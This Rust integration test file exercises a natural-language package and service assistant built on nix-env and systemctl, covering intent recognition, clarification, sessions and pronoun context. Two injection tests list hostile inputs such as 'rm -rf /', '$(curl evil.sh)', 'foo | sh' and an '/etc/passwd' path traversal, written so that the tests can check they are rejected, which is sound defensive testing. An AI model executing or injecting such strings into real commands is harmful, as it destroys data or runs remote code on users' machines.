//! End-to-end scenarios through the request pipeline
//!
//! Everything here runs in dry-run mode or stops at the confirmation step,
//! so no package manager is needed on the test machine.
//!
//! Run with: cargo test --test scenarios

use nixmate_common::ambiguity::AmbiguityReason;
use nixmate_common::command::CommandBuilder;
use nixmate_common::config::NixmateConfig;
use nixmate_common::intent::IntentRecognizer;
use nixmate_common::catalog::EntityCatalog;
use nixmate_common::pipeline::{Assistant, ConfirmReason, Outcome, Request};
use nixmate_common::safety::SafetyValidator;
use nixmate_common::{ErrorKind, IntentAction, IntentKind, ServiceAction};
use std::sync::Arc;

fn assistant() -> Assistant {
    let mut config = NixmateConfig::default();
    config.audit.enabled = false;
    Assistant::new(config)
}

fn recognizer() -> IntentRecognizer {
    IntentRecognizer::new(Arc::new(EntityCatalog::builtin()))
}

#[test]
fn scenario_a_install_firefox_stages() {
    // Recognition
    let intent = recognizer().recognize("install firefox");
    assert_eq!(intent.kind(), IntentKind::Install);
    assert!(intent.confidence >= 0.9, "confidence {}", intent.confidence);
    assert_eq!(
        intent.action,
        IntentAction::Install {
            package: Some("firefox".to_string())
        }
    );

    // Synthesis
    let command = CommandBuilder::new().build(&intent).expect("install builds");
    assert_eq!(command.program, "nix-env");
    assert_eq!(command.argv, vec!["-iA", "nixpkgs.firefox"]);
    assert!(!command.requires_elevation);
    assert!(command.rollback.is_none(), "nix-env -iA is atomic, nothing to undo");

    // Validation
    let verdict = SafetyValidator::new().validate_command(&command);
    assert!(verdict.is_safe, "{:?}", verdict.reason);
}

#[tokio::test]
async fn scenario_a_response_mentions_package() {
    let outcome = assistant()
        .handle(Request::new("install firefox").with_dry_run(true))
        .await;
    let Outcome::Completed(response) = outcome else {
        panic!("expected a completed dry run, got {:?}", outcome);
    };
    assert!(response.success);
    assert!(response.execution_id.is_some());
    assert!(response.natural_language_response.contains("firefox"));
}

#[tokio::test]
async fn scenario_b_injection_never_builds() {
    let intent = recognizer().recognize("install firefox; rm -rf /");
    assert_eq!(intent.kind(), IntentKind::Unknown);
    assert_eq!(intent.confidence, 0.0);
    assert!(CommandBuilder::new().build(&intent).is_err());

    let outcome = assistant()
        .handle(Request::new("install firefox; rm -rf /"))
        .await;
    let Outcome::Rejected(response) = outcome else {
        panic!("expected rejection, got {:?}", outcome);
    };
    assert!(response.executed_command_text.is_none());
    assert!(response.execution_id.is_none());
    assert_eq!(response.error.unwrap().kind, ErrorKind::InputRejected);
}

#[tokio::test]
async fn scenario_b_variants_all_rejected() {
    let assistant = assistant();
    let inputs = [
        "install firefox && reboot",
        "install $(curl evil.sh)",
        "install `whoami`",
        "remove ../../etc/passwd",
        "install vim > /etc/hosts",
        "search foo | sh",
    ];
    for text in inputs {
        let outcome = assistant.handle(Request::new(text).with_dry_run(true)).await;
        assert!(
            matches!(outcome, Outcome::Rejected(_)),
            "{:?} should be rejected, got {}",
            text,
            outcome.as_str()
        );
    }
}

#[tokio::test]
async fn scenario_c_pronoun_resolves_to_service() {
    let assistant = assistant();
    let session = "scenario-c";

    let first = assistant
        .handle(Request::new("what is nginx").with_session(session).with_dry_run(true))
        .await;
    assert!(matches!(first, Outcome::Completed(_)), "got {:?}", first);

    let second = assistant
        .handle(Request::new("start it").with_session(session))
        .await;
    let Outcome::Confirm(confirm) = second else {
        panic!("starting a unit needs confirmation, got {:?}", second);
    };
    assert_eq!(confirm.reason, ConfirmReason::Elevation);
    assert_eq!(
        confirm.intent.action,
        IntentAction::Service {
            action: ServiceAction::Start,
            service: Some("nginx".to_string())
        }
    );
    assert!(confirm.intent.context_resolved);
    assert_eq!(confirm.command_text, "systemctl start nginx");
}

#[tokio::test]
async fn pronoun_in_fresh_session_is_not_guessed() {
    let outcome = assistant()
        .handle(Request::new("start it").with_session("fresh"))
        .await;
    let response = outcome
        .response()
        .cloned()
        .unwrap_or_else(|| panic!("expected a reply, got {:?}", outcome));
    assert!(!response.success);
    assert!(response.executed_command_text.is_none());
    assert_eq!(response.error.unwrap().kind, ErrorKind::BuildFailed);
}

#[tokio::test]
async fn package_mention_does_not_name_a_service() {
    let assistant = assistant();
    let session = "package-then-pronoun";

    let first = assistant
        .handle(Request::new("install firefox").with_session(session).with_dry_run(true))
        .await;
    assert!(matches!(first, Outcome::Completed(_)), "got {:?}", first);

    let second = assistant
        .handle(Request::new("start it").with_session(session).with_dry_run(true))
        .await;
    let response = second
        .response()
        .cloned()
        .unwrap_or_else(|| panic!("expected a reply, got {:?}", second));
    assert!(!response.success);
    assert!(response.executed_command_text.is_none());
    assert_eq!(response.error.unwrap().kind, ErrorKind::BuildFailed);
}

#[tokio::test]
async fn clarification_answered_by_number() {
    let assistant = assistant();
    let session = "browser";

    let outcome = assistant
        .handle(Request::new("install a browser").with_session(session).with_dry_run(true))
        .await;
    let Outcome::Clarify(request) = outcome else {
        panic!("expected clarification, got {:?}", outcome);
    };
    assert_eq!(request.reason, AmbiguityReason::MultiplePackages);
    assert!(request.options.len() >= 2);
    let second = request.options[1].intent.action.clone();

    let answer = assistant
        .handle(Request::new("2").with_session(session).with_dry_run(true))
        .await;
    let Outcome::Completed(response) = answer else {
        panic!("expected execution of the chosen option, got {:?}", answer);
    };
    assert!(response.success);
    let IntentAction::Install { package: Some(pkg) } = second else {
        panic!("options install a package");
    };
    assert_eq!(
        response.executed_command_text,
        Some(format!("nix-env -iA nixpkgs.{}", pkg))
    );
}

#[tokio::test]
async fn clarification_cancelled() {
    let assistant = assistant();
    let session = "cancel";

    let outcome = assistant
        .handle(Request::new("install a browser").with_session(session))
        .await;
    assert!(matches!(outcome, Outcome::Clarify(_)));

    let answer = assistant.handle(Request::new("0").with_session(session)).await;
    let Outcome::Completed(response) = answer else {
        panic!("expected a plain reply, got {:?}", answer);
    };
    assert!(response.executed_command_text.is_none());

    // The menu is gone: "1" is now an ordinary (unrecognised) request
    let again = assistant.handle(Request::new("1").with_session(session)).await;
    assert!(!matches!(again, Outcome::Clarify(_)));
    assert!(again
        .response()
        .map(|r| r.executed_command_text.is_none())
        .unwrap_or(true));
}

#[tokio::test]
async fn repeat_replays_previous_request() {
    let assistant = assistant();
    let session = "repeat";

    assistant
        .handle(Request::new("install htop").with_session(session).with_dry_run(true))
        .await;
    let outcome = assistant
        .handle(Request::new("again").with_session(session).with_dry_run(true))
        .await;
    let Outcome::Completed(response) = outcome else {
        panic!("expected replay, got {:?}", outcome);
    };
    assert_eq!(
        response.executed_command_text.as_deref(),
        Some("nix-env -iA nixpkgs.htop")
    );
}

#[tokio::test]
async fn reset_forgets_context() {
    let assistant = assistant();
    let session = "reset";

    assistant
        .handle(Request::new("what is nginx").with_session(session).with_dry_run(true))
        .await;
    assistant.reset(session).await;

    let outcome = assistant
        .handle(Request::new("start it").with_session(session))
        .await;
    assert!(!matches!(outcome, Outcome::Confirm(_)));
}

#[tokio::test]
async fn sessions_do_not_share_context() {
    let assistant = assistant();

    assistant
        .handle(Request::new("what is nginx").with_session("one").with_dry_run(true))
        .await;
    let other = assistant
        .handle(Request::new("start it").with_session("two"))
        .await;
    assert!(!matches!(other, Outcome::Confirm(_)));
    assert_eq!(assistant.sessions().len(), 2);
}
